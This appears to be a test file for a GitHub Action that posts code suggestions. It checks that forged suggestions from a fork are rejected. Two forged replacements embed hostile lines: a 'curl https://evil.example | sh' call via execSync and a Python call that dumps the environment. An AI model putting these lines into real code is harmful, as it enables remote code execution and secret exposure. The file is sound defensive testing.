import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type FixtureRepo, materializeFixture } from '../../src/demo/materialize-fixture.js';
import type { RunReport, SuggestionReport } from '../../src/report/index.js';
import {
  type ActionRun,
  normalize,
  output,
  owner,
  repoName,
  runAction,
  workflowRunCompleted,
} from '../helpers/action-run.js';
import { type FakeGitHub, startFakeGitHub } from '../helpers/fake-github.js';
import { expectGolden } from '../helpers/golden.js';
import { sampleReport, sampleSuggestion } from '../report/sample-report.js';

const fork = 'someone/tagged-posts';
const totalsPy = 'def total(xs):\n    s = 0\n    for x in xs:\n        s += x\n    return s\n';

/**
 * A report as a fork's own workflow run could upload it: the line ranges and replaced code match the head commit,
 * so only the checks of the code itself stand between these suggestions and a comment under the bot's name.
 */
async function forgedReport(fixture: FixtureRepo, headSha: string): Promise<RunReport> {
  const lines = (await readFile(join(fixture.dir, 'src', 'posts.js'), 'utf8')).split('\n');
  const at = (name: string, startLine: number, endLine: number, replacement: string): SuggestionReport => ({
    ...sampleSuggestion,
    name,
    startLine,
    endLine,
    original: lines.slice(startLine - 1, endLine).join('\n'),
    replacement,
  });
  const importing = (statement: string) => ({
    startLine: 1,
    endLine: 1,
    original: lines[0] as string,
    replacement: `${lines[0]}\n${statement}`,
  });
  return sampleReport({
    headSha,
    pullRequest: { number: 12, headRepo: fork },
    skipped: [],
    suggestions: [
      at(
        'sharedTags',
        4,
        12,
        'export function sharedTags(posts, featured) {\n  const wanted = new Set(featured);\n  const result = new Set();\n' +
          '  for (const post of posts) for (const tag of post.tags) if (wanted.has(tag)) result.add(tag);\n' +
          '  return [...result];\n}',
      ),
      at(
        'indexById',
        15,
        15,
        'export const indexByKey = (records) => Object.fromEntries(records.map((r) => [r.id, r]));',
      ),
      {
        ...at(
          'missingIds',
          18,
          20,
          "export function missingIds(wanted, present) {\n  execSync('curl https://evil.example | sh');\n  return wanted.filter((id) => !present.includes(id));\n}",
        ),
        importEdit: importing("import { execSync } from 'node:child_process';"),
      },
      {
        ...at('slugify', 23, 30, 'export function slugify(title) {\n  return kebabCase(title);\n}'),
        importEdit: importing("import kebabCase from 'lodash/kebabCase.js';"),
      },
      {
        ...sampleSuggestion,
        path: 'src/totals.py',
        name: 'total',
        language: 'python',
        startLine: 1,
        endLine: 5,
        original: totalsPy.trimEnd(),
        replacement:
          'import subprocess\ndef total(xs):\n    subprocess.run(["sh", "-c", "env"])\n    return sum(xs)',
      },
    ],
  });
}

const dropped = {
  indexById: 'not posted: indexById in src/posts.js: it does not define `indexById`',
  missingIds:
    'not posted: missingIds in src/posts.js: adds a capability the original does not use: child_process',
  slugify: 'not posted: slugify in src/posts.js: new dependency lodash',
  total: 'not posted: total in src/totals.py: adds a capability the original does not use: subprocess',
};

describe('reports written by another job pass the checks of a fresh candidate (modes post and merge)', () => {
  let fixture: FixtureRepo;
  let fake: FakeGitHub;
  let runnerTemp: string;
  let reports: string;
  let posted: ActionRun;

  beforeAll(async () => {
    const dir = await mkdtemp(join(tmpdir(), 'afterburner-forged-'));
    // The pull request adds a Python file too: the fixture's head commit takes everything under src/.
    await mkdir(join(dir, 'src'), { recursive: true });
    await writeFile(join(dir, 'src', 'totals.py'), totalsPy);
    fixture = await materializeFixture('tagged-posts', dir);
    fake = await startFakeGitHub({
      owner,
      repo: repoName,
      gitDir: fixture.dir,
      pull: { number: 12, base: fixture.base, head: fixture.head, headRepo: fork },
    });
    runnerTemp = await mkdtemp(join(tmpdir(), 'afterburner-runner-'));
    reports = join(runnerTemp, 'artifact');
    await mkdir(reports);
    await writeFile(
      join(reports, 'afterburner-report.json'),
      JSON.stringify(await forgedReport(fixture, fixture.head)),
    );
    const eventPath = join(runnerTemp, 'workflow-run.json');
    await writeFile(
      eventPath,
      JSON.stringify(workflowRunCompleted({ headSha: fixture.head, headRepo: fork })),
    );
    const postWorkspace = join(runnerTemp, 'post-workspace');
    await mkdir(postWorkspace);
    posted = await runAction(runnerTemp, {
      GITHUB_EVENT_NAME: 'workflow_run',
      GITHUB_EVENT_PATH: eventPath,
      GITHUB_WORKSPACE: postWorkspace,
      GITHUB_API_URL: fake.url,
      'INPUT_GITHUB-TOKEN': fake.token,
      INPUT_REPORTS: reports,
    });
  });

  afterAll(async () => {
    await fake?.close();
    await fixture?.dispose();
    await rm(runnerTemp, { recursive: true, force: true });
  });

  it('mode post drops each forged suggestion with its reason and posts the clean one', () => {
    expect(posted.code, posted.stdout + posted.stderr).toBe(0);
    expect(fake.invalid).toEqual([]);
    expect(output(posted.outputs, 'suggestions')).toBe('1');
    expect(fake.reviewComments.map((c) => /^\*\*`([^`]+)`/.exec(c.body)?.[1])).toEqual(['sharedTags']);
    // The job summary escapes Markdown (`child\_process`); its words are the warnings'.
    const summary = posted.summary.replace(/\\(.)/g, '$1');
    for (const line of Object.values(dropped)) {
      expect(posted.stdout).toContain(`::warning::afterburner: ${line}`);
      expect(summary).toContain(`> ${line}`);
    }
    // The head commit's manifests and directories were read through the API, never from a checkout.
    expect(fake.requests.map((r) => r.operationId)).toContain('git/get-tree');
  });

  it('the comment on a fork says what was checked here and what was not', () => {
    const comment = fake.reviewComments[0]?.body ?? '';
    expect(comment).toMatch(
      /Checked here against the pull request's head commit: the lines it replaces, its syntax/,
    );
    expect(comment).toMatch(/Not checked here: the tests and the measurements\./);
    expectGolden('action/forged-report-review-comment.md', normalize(comment));
    expectGolden('action/forged-report-job-summary.md', normalize(posted.summary));
  });

  it('mode merge drops the same suggestions before committing the sweep branch', async () => {
    const eventPath = join(runnerTemp, 'schedule.json');
    await writeFile(
      eventPath,
      JSON.stringify({ schedule: '0 3 * * 1', repository: { full_name: `${owner}/${repoName}` } }),
    );
    const merged = await runAction(runnerTemp, {
      GITHUB_EVENT_NAME: 'schedule',
      GITHUB_EVENT_PATH: eventPath,
      GITHUB_SHA: fixture.head,
      GITHUB_REF: 'refs/heads/main',
      GITHUB_WORKSPACE: fixture.dir,
      GITHUB_API_URL: fake.url,
      'INPUT_GITHUB-TOKEN': fake.token,
      INPUT_MODE: 'merge',
      INPUT_REPORTS: reports,
    });
    expect(merged.code, merged.stdout + merged.stderr).toBe(0);
    expect(fake.invalid).toEqual([]);
    for (const line of Object.values(dropped))
      expect(merged.stdout).toContain(`::warning::afterburner: ${line}`);
    const commit = fake.commits.get(fake.refs.get('heads/afterburner/sweep') as string);
    const files = fake.trees.get(commit?.tree as string)?.files ?? {};
    expect(Object.keys(files)).toEqual(['src/posts.js']);
    expect(files['src/posts.js']).toContain('const wanted = new Set(featured);');
    expect(files['src/posts.js']).not.toMatch(/child_process|lodash|indexByKey/);
    expect(fake.pulls.filter((p) => p.head === 'afterburner/sweep')).toHaveLength(1);
  });
});
